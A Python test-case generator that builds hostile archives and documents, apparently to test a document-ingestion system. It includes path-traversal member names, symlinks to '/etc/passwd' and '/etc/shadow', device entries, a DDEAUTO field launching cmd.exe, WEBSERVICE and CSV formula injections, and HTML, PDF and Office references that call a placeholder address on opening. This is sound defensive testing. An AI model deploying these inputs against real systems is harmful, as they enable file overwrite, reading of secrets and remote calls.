"""Names that would lead out of where they are unpacked, links, devices, and what would call home when opened."""

# mypy: disable-error-code="misc"
# The maker of a case is a lambda that keeps its loop variables as defaults, whose type mypy cannot infer.

import stat
import struct
import tarfile
import zlib
from collections.abc import Iterator

from formats import archive_builder as archives
from formats import odf_builder, ofd_builder, pdf_builder, pptx_builder, xlsx_builder
from formats.docx_builder import docx, field, p, r, relationships
from formats.office97_builder import rtf
from hostile.case import CANARY, LINES, MARK, OUT, REST, URL, Case, with_member

TEXT = "\n".join(LINES).encode()
NAMES = (
    f"../{OUT}.txt", f"../../../../../../tmp/{OUT}.txt", f"/tmp/{OUT}.txt", f"..\\..\\{OUT}.txt", f"C:\\Windows\\{OUT}.txt", f"\\\\127.0.0.1\\c$\\{OUT}.txt",
    f"a/../../{OUT}.txt", f"./../{OUT}.txt", f"~/{OUT}.txt", "CON", "NUL.txt", "COM1", "aux.docx", f"{OUT}.txt:stream", f"a\n{OUT}.txt", f"{OUT}\0.txt",
    f"\u202etxt.{OUT}", "a" * 5000 + ".txt", " ", ".", "..", f"/proc/self/root/tmp/{OUT}", f"/dev/shm/{OUT}",
)  # fmt: skip


def _named() -> Iterator[Case]:
    for name in NAMES:
        shown = name if len(name) < 40 else name[:20] + "…"
        raw = name.encode()
        yield Case(
            f"member {shown!r}",
            "path",
            "zip",
            "来件.zip",
            lambda raw=raw: archives.raw_zip([(raw, TEXT)], flags=0x800),
            "marked",
        )
        if "\0" not in name and name.strip(" ."):
            yield Case(
                f"member {shown!r}",
                "path",
                "tar",
                "来件.tar",
                lambda name=name: archives.tarred({name: TEXT}),
                "marked",
            )
            yield Case(
                f"member {shown!r}", "path", "rar", "来件.rar", lambda name=name: archives.rar5({name: TEXT}), "told"
            )
    for name in NAMES[:9]:
        yield Case(f"attachment {name!r}", "path", "mail", "来信.eml", lambda name=name: _letter(name), "marked")
        yield Case(
            f"attachment {name!r}",
            "path",
            "pdf",
            "通知.pdf",
            lambda name=name: pdf_builder.edited(pdf_builder.official(None), pdf_builder.attached(name, TEXT)),
            "marked",
        )
        yield Case(
            f"packed as {name!r}",
            "path",
            "olepackage",
            "oleObject1.bin",
            lambda name=name: archives.wrapped(name, TEXT),
            "marked",
        )
        yield Case(
            f"member {name!r}",
            "path",
            "ofd",
            "通知.ofd",
            lambda name=name: with_member(ofd_builder.paper(REST), name, TEXT),
            "told",
        )
        yield Case(
            f"member {name!r}",
            "path",
            "docx",
            "通知.docx",
            lambda name=name: with_member(docx(p(r("正文"))), name, TEXT),
            "told",
        )
    yield Case("name in the header", "path", "gzip", "a.gz", lambda: _named_gzip(f"../../{OUT}.txt"), "marked")


def _letter(name: str) -> bytes:
    from email.message import EmailMessage

    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@example.cn", "x"
    mail.set_content("见附件。\n")
    mail.add_attachment(TEXT, maintype="text", subtype="plain", filename=name)
    return mail.as_bytes()


def _named_gzip(name: str) -> bytes:
    engine = zlib.compressobj(9, wbits=-15)
    body = engine.compress(TEXT) + engine.flush()
    return (
        b"\x1f\x8b\x08\x08" + bytes(6) + name.encode() + b"\0" + body + struct.pack("<LL", zlib.crc32(TEXT), len(TEXT))
    )


def _links() -> Iterator[Case]:
    for target in (CANARY, "/etc/passwd", "../../../../etc/shadow", f"/tmp/{OUT}", "."):
        yield Case(
            f"link to {target}, then a file through it",
            "path",
            "tar",
            "来件.tar",
            lambda target=target: archives.tarred({"正文.txt": TEXT}, 链接=(tarfile.SYMTYPE, target)),
            "marked",
        )
        yield Case(
            f"hard link to {target}",
            "path",
            "tar",
            "来件.tar",
            lambda target=target: archives.tarred({"正文.txt": TEXT}, 链接=(tarfile.LNKTYPE, target)),
            "marked",
        )
        yield Case(
            f"link to {target}",
            "path",
            "zip",
            "来件.zip",
            lambda target=target: archives.raw_zip([(b"a", target.encode())], mode=stat.S_IFLNK | 0o777),
            "safe",
        )
    for kind, name in (
        (tarfile.CHRTYPE, "character device"),
        (tarfile.BLKTYPE, "block device"),
        (tarfile.FIFOTYPE, "pipe"),
    ):
        yield Case(
            name,
            "path",
            "tar",
            "来件.tar",
            lambda kind=kind: archives.tarred({"正文.txt": TEXT}, 设备=(kind, "")),
            "marked",
        )


_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _outward() -> Iterator[Case]:
    """What would fetch something when opened in the program it was made for."""
    for kind in ("image", "attachedTemplate", "oleObject", "frame", "subDocument", "hyperlink"):
        yield Case(
            f"{kind} at an address",
            "outward",
            "docx",
            "通知.docx",
            lambda kind=kind: docx(p(r(MARK)), relations=[("x", kind, URL, "External")]),
            "marked",
        )
    for code in (
        f'INCLUDETEXT "{CANARY}"',
        f'INCLUDEPICTURE "{URL}" \\d',
        f'DDEAUTO c:\\\\cmd.exe "/k {URL}"',
        f'LINK Excel.Sheet.8 "{URL}"',
    ):
        yield Case(
            f"field {code.split()[0]}",
            "outward",
            "docx",
            "通知.docx",
            lambda code=code: docx(p(r(MARK)) + p(field(code, r("值")))),
            "marked",
        )
        yield Case(
            f"field {code.split()[0]}",
            "outward",
            "rtf",
            "通知.rtf",
            lambda code=code: rtf(MARK, "{\\field{\\*\\fldinst " + code.replace("\\", "\\\\") + "}{\\fldrslt x}}"),
            "marked",
        )
    yield Case(
        "template of a file", "outward", "rtf", "通知.rtf", lambda: rtf(MARK, head=f"{{\\*\\template {URL}}}"), "marked"
    )
    yield Case(
        "relationships of the package at an address",
        "outward",
        "docx",
        "通知.docx",
        lambda: with_member(
            docx(p(r(MARK))),
            "_rels/.rels",
            relationships([("d", "officeDocument", "word/document.xml"), ("t", "thumbnail", URL, "External")]),
        ),
        "marked",
    )
    yield Case(
        "value of another file",
        "outward",
        "xlsx",
        "台账.xlsx",
        lambda: xlsx_builder.workbook(
            xlsx_builder.sheet(
                xlsx_builder.row(
                    1, xlsx_builder.s("A1", MARK), f'<c r="B1" t="str"><f>WEBSERVICE("{URL}")</f><v>x</v></c>'
                )
            )
        ),
        "marked",
    )
    yield Case(
        "picture at an address",
        "outward",
        "pptx",
        "汇报.pptx",
        lambda: pptx_builder.presentation(
            pptx_builder.tree(pptx_builder.sp(MARK)), relations={0: [("x", "image", URL)]}
        ),
        "marked",
    )
    yield Case(
        "picture at an address",
        "outward",
        "odf",
        "通知.odt",
        lambda: odf_builder.odf(
            odf_builder.p(MARK) + odf_builder.p(f'<draw:frame><draw:image xlink:href="{URL}"/></draw:frame>')
        ),
        "marked",
    )
    yield Case(
        "section of a file",
        "outward",
        "odf",
        "通知.odt",
        lambda: odf_builder.odf(
            odf_builder.p(MARK) + f'<text:section><text:section-source xlink:href="file://{CANARY}"/></text:section>'
        ),
        "marked",
    )
    yield Case(
        "picture at an address",
        "outward",
        "ofd",
        "通知.ofd",
        lambda: ofd_builder.shown(
            ofd_builder.text(28, 37, MARK),
            ofd_builder.image(20, 60, 50, 50, "60"),
            resources=ofd_builder.media(**{"60": URL}),
        ),
        "told",
    )
    yield Case(
        "page outside the package",
        "outward",
        "ofd",
        "通知.ofd",
        lambda: (
            ofd_builder.paper(LINES).replace(b"x", b"x")
            and ofd_builder.ofd(
                ofd_builder.page(ofd_builder.layer(ofd_builder.text(28, 37, MARK))),
                document=f"<ofd:Annotations>../../../..{CANARY}</ofd:Annotations>",
            )
        ),
        "open",
    )
    for what, body in {
        "picture": f"<img src='{URL}'>", "script": f"<script src='{URL}'></script>", "frame": f"<iframe src='{URL}'></iframe>",
        "style sheet": f"<link rel=stylesheet href='{URL}'>", "refresh": f"<meta http-equiv=refresh content='0;url={URL}'>", "object": f"<object data='{URL}'></object>",
        "file": f"<iframe src='file://{CANARY}'></iframe>", "base": f"<base href='{URL}'><img src=a.png>",
    }.items():  # fmt: skip
        page = f"<!DOCTYPE html><html><body><p>{MARK}</p><p>云岭省人民政府文件</p>{body}</body></html>".encode()
        yield Case(f"{what} at an address", "outward", "html", "通知.html", lambda page=page: page, "marked")
    yield Case(
        "body at an address",
        "outward",
        "mail",
        "来信.eml",
        lambda: (
            f'From: a@example.cn\nSubject: x\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=URL; URL="{URL}"\n\nContent-Type: text/plain\n\n'.encode()
            + TEXT
        ),
        "told",
    )
    yield Case(
        "action at an address",
        "outward",
        "pdf",
        "通知.pdf",
        lambda: pdf_builder.edited(pdf_builder.official(), pdf_builder.link(URL), pdf_builder.script),
        "marked",
    )
    yield Case(
        "formula in a cell",
        "outward",
        "csv",
        "台账.csv",
        lambda: f'序号,内容\n1,"=WEBSERVICE(""{URL}"")"\n2,"{MARK}"\n'.encode(),
        "told",
    )


def cases() -> Iterator[Case]:
    for group in (_named, _links, _outward):
        yield from group()
